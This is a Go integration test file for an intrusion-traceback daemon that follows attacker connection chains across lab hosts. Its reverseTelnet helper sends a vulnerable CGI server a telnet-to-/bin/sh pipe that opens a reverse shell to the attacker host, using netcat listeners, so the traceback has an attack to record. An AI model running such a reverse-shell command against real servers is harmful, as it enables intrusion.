package integration

import (
	"context"
	"fmt"
	"net/netip"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/stopd/stopd"
	"github.com/stopd/stopd/chain"
	"github.com/stopd/stopd/host"
	"github.com/stopd/stopd/internal/netlab/site"
	"github.com/stopd/stopd/report"
	"github.com/stopd/stopd/trace"
)

// Thesis section 3.5.2, figures 3.6 and 3.7. The swapper is no process that Linux shows.
func TestComplexProcessStructure(t *testing.T) {
	w := theWorld(t)
	for _, linked := range []bool{true, false} {
		t.Run(map[bool]string{true: "linked", false: "unlinked"}[linked], func(t *testing.T) {
			s := w.stage(t)
			s.on(s.b, "mallory", "resolve", s.dir, fmt.Sprint(s.port), s.c.Host.Addr().String(), fmt.Sprint(victimPort))
			s.connect(s.port)
			labels := map[int]string{1: "init"}
			for i := range 12 {
				label := fmt.Sprintf("P%d", i+1)
				labels[s.pid(s.dir+"/"+label)] = label
			}
			tr := s.through(slices.Repeat([]string{"resolve"}, 12)...)
			if !linked {
				s.unlink()
			}
			s.traced("SV_REC", tr, linked)
			// Another question, as the first one's report is out of sight here.
			_, r, err := s.b.Redeem(s.ctx, s.request(s.c, "SV", tr.out))
			s.must(err)
			s.structure(r.Report, labels)
		})
	}
}

// pid reads a process id from a file on b that a program is about to write.
func (s *stage) pid(path string) int {
	s.t.Helper()
	var pid int
	s.wait("read "+path, func() (bool, error) {
		text, err := s.b.Host.ReadFile(path)
		if err != nil || len(text) == 0 {
			return false, ignoreMissing(err)
		}
		pid, err = strconv.Atoi(string(text))
		return true, err
	})
	return pid
}

func (s *stage) structure(r report.Report, labels map[int]string) {
	s.t.Helper()
	got := map[string]string{}
	groups := map[int]bool{}
	for _, p := range r.Processes {
		got[labels[p.PID]] = fmt.Sprintf("%s, child of %s", p.Role, labels[*p.PPID])
		if p.PID > 1 && p.PGRP != nil {
			groups[*p.PGRP] = true
		}
	}
	want := map[string]string{
		"P4": "primary, child of P3", "P3": "primary, child of init", "init": "primary, child of ",
		"P12": "resolved, child of P10", "P10": "resolved, child of P7", "P7": "resolved, child of P4",
		"P11": "resolved, child of P10", "P9": "resolved, child of P6", "P6": "resolved, child of P4",
		"P8": "resolved, child of P5", "P5": "resolved, child of P3",
		"P2": "resolved, child of init", "P1": "resolved, child of init",
	}
	if d := cmp.Diff(want, got); d != "" {
		s.t.Errorf("processes (-want +got):\n%s", d)
	}
	if len(groups) != 3 {
		s.t.Errorf("%d process groups, want 3", len(groups))
	}
	var channels []string
	for _, c := range r.Channels {
		var ends []string
		for _, e := range c.Ends {
			ends = append(ends, labels[e.PID])
		}
		slices.Sort(ends)
		channels = append(channels, fmt.Sprintf("%s %s, complete %t, followed %t", c.Kind, strings.Join(ends, " "), c.Complete, c.Followed))
	}
	slices.Sort(channels)
	wantChannels := []string{
		"pipe P10 P9, complete true, followed true", "pipe P11 P12, complete true, followed true",
		"pipe P12 P4 P8, complete true, followed true", "pipe P5 P8, complete true, followed true",
		"tcp P1 P2, complete true, followed true", "tcp P2 P5, complete true, followed true",
	}
	if d := cmp.Diff(wantChannels, channels); d != "" {
		s.t.Errorf("channels (-want +got):\n%s", d)
	}
}

// Thesis section 3.5.3. The gateway asks on behalf of the attacker's host, about one of two connections that
// b has opened itself; by default nobody on the other end is told.
func TestReverseTelnet(t *testing.T) {
	w := theWorld(t)
	for _, tt := range []struct {
		name           string
		ask            int
		linked, toldTo bool
	}{
		{"8000, nobody may be told", 0, true, false},
		{"8001, nobody may be told", 1, true, false},
		{"8000, the attacker's host may be told", 0, true, true},
		{"8000, unlinked", 0, false, true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			s := w.stage(t)
			s.unremembered() // else the request that began it, which is over, is named as well
			if tt.toldTo {
				s.configure("outbound_to", `outbound_to = ["192.0.2.1/32"]`, `outbound_to = []`)
			}
			s.reverseTelnet()
			ways := [2]connection{}
			for i := range ways {
				ways[i] = s.one(s.b, "connection with the attacker", func(c connection) bool {
					return c.remote == netip.AddrPortFrom(s.a.Host.Addr(), s.port+1+uint16(i))
				})
			}
			if !tt.linked {
				s.unlink()
			}
			before := s.answered()
			token := s.request(s.g, "SV_REC", ways[tt.ask], "-for", s.a.Host.Addr().String())
			_, r, err := s.b.Traced(s.ctx, token)
			s.must(err)
			s.inBetween(r.Report, trail{out: ways[tt.ask], names: []string{"cgi", "sh", "sh", "inetutils-telne", "inetutils-telne"}})
			s.bothWays(r, ways, tt.linked, tt.toldTo)
			if d := cmp.Diff(map[string]int{"b": 1}, s.since(before)); d != "" {
				t.Errorf("answers by host (-want +got):\n%s", d)
			}
		})
	}
}

// reverseTelnet opens the two ways from b to ports port+1 and port+2 of the attacker, through a hole of a
// server on b, and runs a command.
func (s *stage) reverseTelnet() {
	s.t.Helper()
	in := s.open("nc.traditional", "-l", "-p", fmt.Sprint(s.port+1))
	out := s.open("nc.traditional", "-l", "-p", fmt.Sprint(s.port+2))
	for i := range uint16(2) {
		s.must(s.a.Host.WaitListen(s.ctx, s.port+1+i))
	}
	s.on(s.b, "www", "cgi", fmt.Sprint(s.port))
	s.listening(s.port)
	exploit := s.open("nc.traditional", s.b.Host.Addr().String(), fmt.Sprint(s.port))
	s.send(exploit, fmt.Sprintf("inetutils-telnet %[1]s %[2]d | /bin/sh | inetutils-telnet %[1]s %[3]d", s.a.Host.Addr(), s.port+1, s.port+2))
	s.must(exploit.Wait(s.ctx)) // the server hangs up
	s.send(in, "echo it is $((6 * 7))")
	_, err := out.Expect(s.ctx, "it is 42")
	s.must(err)
}

// bothWays checks that both connections are candidates, and whether they were asked about.
func (s *stage) bothWays(r report.Redeemed, ways [2]connection, linked, told bool) {
	s.t.Helper()
	want := map[netip.AddrPort]string{}
	for _, way := range ways {
		want[way.remote] = string(host.Outbound) + " " + trace.ReasonJoinedOutbound
	}
	got := map[netip.AddrPort]string{}
	for _, p := range r.Report.Previous {
		got[p.Remote] = string(p.Direction) + " " + strings.Join(p.Reasons, " ")
	}
	if d := cmp.Diff(want, got, cmp.Comparer(func(a, b netip.AddrPort) bool { return a == b })); d != "" {
		s.t.Errorf("candidates (-want +got):\n%s", d)
	}
	for _, t := range r.Traceback {
		switch {
		case t.Asked != told:
			s.t.Errorf("asked %t, want %t: %+v", t.Asked, told, t)
		case told && linked && t.Error != string(stop.NoUser):
			// It did not open the connection.
			s.t.Errorf("the attacker's host answered %+v", t)
		case told && !linked && t.Kind != "none":
			s.t.Errorf("the attacker's host has no link and answered %+v", t)
		}
	}
	if text := chain.Text(chain.Build(chain.Of(r))); told && linked && strings.Count(text, "refused   it answered NO-USER") != 2 {
		s.t.Errorf("the chain does not say that the attacker's host refused twice:\n%s", text)
	}
	if len(r.Traceback) != 2 {
		s.t.Errorf("%d candidates in the trace-back, want 2", len(r.Traceback))
	}
}

// configure replaces a line of b's configuration until the stage ends.
func (s *stage) configure(key, line, back string) {
	s.t.Helper()
	s.must(s.b.Configure(key, line))
	s.reload("configuration reloaded")
	s.t.Cleanup(func() {
		if err := s.b.Configure(key, back); err != nil {
			s.t.Error(err)
			return
		}
		s.ctx = context.Background() // the stage's own has ended
		s.reload("configuration reloaded")
	})
}

// reload has b read its configuration, and waits for what it says of it.
func (s *stage) reload(says string) {
	s.t.Helper()
	log, err := s.b.Daemon.Log()
	s.must(err)
	s.must(s.b.Daemon.Signal(syscall.SIGHUP))
	s.wait("wait for "+says, func() (bool, error) {
		now, err := s.b.Daemon.Log()
		return strings.Count(now, says) > strings.Count(log, says), err
	})
}

// Thesis section 3.2.2: b is H2, which is passed through twice, and g is H3.
func TestLoop(t *testing.T) {
	w := theWorld(t)
	for _, linked := range []bool{true, false} {
		t.Run(map[bool]string{true: "linked", false: "unlinked"}[linked], func(t *testing.T) {
			s := w.stage(t)
			port1, port2, port3 := s.port, s.port+1, s.port+2
			at := func(h *site.Site, port uint16) string { return fmt.Sprintf("%s:%d", h.Host.Addr(), port) }
			s.on(s.g, "mallory", "steps", fmt.Sprint(port2), at(s.b, port3), at(s.c, victimPort))
			s.must(s.g.Host.WaitListen(s.ctx, port2))
			s.on(s.b, "mallory", "steps", fmt.Sprint(port1), at(s.g, port2), fmt.Sprint(port3))
			s.connect(port1)
			s.heard(s.c)
			in := s.in()
			last := s.out(s.g, s.c)
			if !linked {
				s.unlink()
			}
			before := s.answered()
			_, g1, err := s.g.Traced(s.ctx, s.request(s.c, "SV_REC", last))
			s.must(err)
			b1 := s.tracedOn(s.b, g1, port2)
			g2 := s.tracedOn(s.g, b1, port3)
			b2 := s.tracedOn(s.b, g2, port2)
			if b2.Report.Kind != report.KindDuplicate || b2.Report.SameAs != b1.Token || len(b2.Traceback) > 0 {
				t.Errorf("the second question about Port2 got %q, the same as %q, and %+v was asked; the first got %q",
					b2.Report.Kind, b2.Report.SameAs, b2.Traceback, b1.Token)
			}
			rs := []report.Redeemed{b1, g1, g2, b2}
			want := map[string]int{"b": 2, "g": 2}
			way := fmt.Sprintf("%s -> b (%s) -> g (%s) -> %s\n", s.a.Host.Addr(), s.b.Host.Addr(), s.g.Host.Addr(), s.c.Host.Addr())
			if linked {
				want["a"] = 1
				rs = append(rs, s.previousToken(s.a, b1))
				way = "a (" + strings.Replace(way, " ", ") ", 1)
			}
			if d := cmp.Diff(want, s.since(before)); d != "" {
				t.Errorf("answers by host (-want +got):\n%s", d)
			}
			asked := map[string]bool{}
			for _, e := range askedOf(b1) {
				asked[fmt.Sprint(e)] = true
			}
			if d := cmp.Diff(map[string]bool{
				fmt.Sprint(stop.Ends{Remote: in.remote, Local: in.local}):                                            true,
				fmt.Sprint(stop.Ends{Remote: b1Port3(b1, port3), Local: netip.AddrPortFrom(s.b.Host.Addr(), port3)}): true,
			}, asked); d != "" {
				t.Errorf("b asked about (-want +got):\n%s", d)
			}
			text := chain.Text(chain.Build(chain.Of(rs...)))
			if !strings.Contains("\n"+text, "\n"+way) || !strings.Contains(text, "loop") {
				t.Errorf("the chain has no path %q:\n%s", way, text)
			}
		})
	}
}

// b1Port3 returns where the connection to Port3 came from, by the report of the host that has it.
func b1Port3(r report.Redeemed, port3 uint16) netip.AddrPort {
	for _, p := range r.Report.Previous {
		if p.Local.Port() == port3 {
			return p.Remote
		}
	}
	return netip.AddrPort{}
}

// tracedOn follows one question of a trace-back, about the connection to a port at either end, and waits
// until the host that was asked has heard from those that it asked in turn.
func (s *stage) tracedOn(on *site.Site, r report.Redeemed, port uint16) report.Redeemed {
	s.t.Helper()
	for _, t := range r.Traceback {
		if t.Asked && (t.Previous.Local.Port() == port || t.Previous.Remote.Port() == port) && s.of(on, t.Previous.Remote.Addr()) {
			_, next, err := on.Redeem(s.ctx, t.Token)
			s.must(err)
			if next.Report.Kind == report.KindSV {
				_, next, err = on.Traced(s.ctx, t.Token)
				s.must(err)
			}
			return next
		}
	}
	s.t.Fatalf("%s was not asked about port %d: %+v", on.Host.Name, port, r.Traceback)
	return report.Redeemed{}
}

// Thesis section 3.4: the intruder goes through b and c to g. The daemon of b is down, so a is not asked.
func TestDaemonDown(t *testing.T) {
	s := theWorld(t).stage(t)
	session := s.shell()
	s.send(session, "ssh -4 -tt c", "echo lo''gged in as well")
	_, err := session.Expect(s.ctx, "logged in as well")
	s.must(err)
	s.send(session, fmt.Sprintf("inetutils-telnet %s %d", s.g.Host.Addr(), victimPort))
	_, err = session.Expect(s.ctx, "Escape character")
	s.must(err)
	s.send(session, s.word)
	s.heard(s.g)
	out := s.out(s.c, s.g)
	s.must(s.b.Daemon.Stop(s.ctx))
	t.Cleanup(func() {
		if err := s.b.Run(context.Background()); err != nil {
			t.Error(err)
		}
	})
	before := s.answered()
	_, r, err := s.c.Traced(s.ctx, s.request(s.g, "SV_REC", out))
	s.must(err)
	if d := cmp.Diff(map[string]int{"c": 1}, s.since(before)); d != "" {
		t.Errorf("answers by host (-want +got):\n%s", d)
	}
	if len(r.Traceback) != 1 || !r.Traceback[0].Asked || r.Traceback[0].Kind != "none" || !s.of(s.b, r.Traceback[0].Previous.Remote.Addr()) {
		t.Errorf("c asked %+v, want b, in vain", r.Traceback)
	}
	way := fmt.Sprintf("%s -> c (%s) -> %s\n", s.b.Host.Addr(), s.c.Host.Addr(), s.g.Host.Addr())
	s.draws([]report.Redeemed{r}, way, "missing")

	// An investigator has a asked all the same. That its connection with b is on the way is nobody's word.
	in := s.in()
	token, err := s.b.Stopctl(s.ctx, "request", "-type", "SV_REC", in.remote.Addr().String(), fmt.Sprint(in.remote.Port()), fmt.Sprint(in.local.Port()))
	s.must(err)
	_, a, err := s.a.Traced(s.ctx, token)
	s.must(err)
	c := chain.Build(chain.Of(a, r))
	if text := chain.Text(c); !strings.HasPrefix(text, way) || !strings.Contains(text, fmt.Sprintf("\na (%s) -> %s\n", s.a.Host.Addr(), s.b.Host.Addr())) ||
		len(c.Hosts) != 4 || c.Hosts[1].Status != chain.Missing || !c.Hosts[1].Unjoined {
		t.Errorf("b is not the hop that is missing between a and c:\n%s", text)
	}
}
